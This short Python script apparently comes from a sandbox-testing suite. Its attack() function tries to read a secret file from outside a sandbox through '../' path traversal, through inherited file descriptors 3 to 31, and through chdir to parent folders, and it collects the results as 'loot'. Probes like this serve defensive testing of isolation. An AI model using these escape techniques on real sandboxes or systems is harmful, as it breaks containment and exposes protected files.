"""Climb out of whatever folder there is: open descriptors, `..`, chdir.

Evidence: secret
Sandbox: violation, ok
"""

import os


def attack(target):
    loot = []
    path = target["secret_file"].lstrip("/")
    up = "../" * 24
    for start in [None, *range(3, 32)]:
        for road in (path, up + path):
            try:
                handle = os.open(road, os.O_RDONLY, dir_fd=start)
                loot.append(os.read(handle, 4096).decode())
            except (OSError, NotImplementedError, TypeError):
                continue
    for folder in ("/", ".", ".."):
        try:
            os.chdir(folder)
            loot.append(open(path).read())
        except OSError:
            continue
    return loot
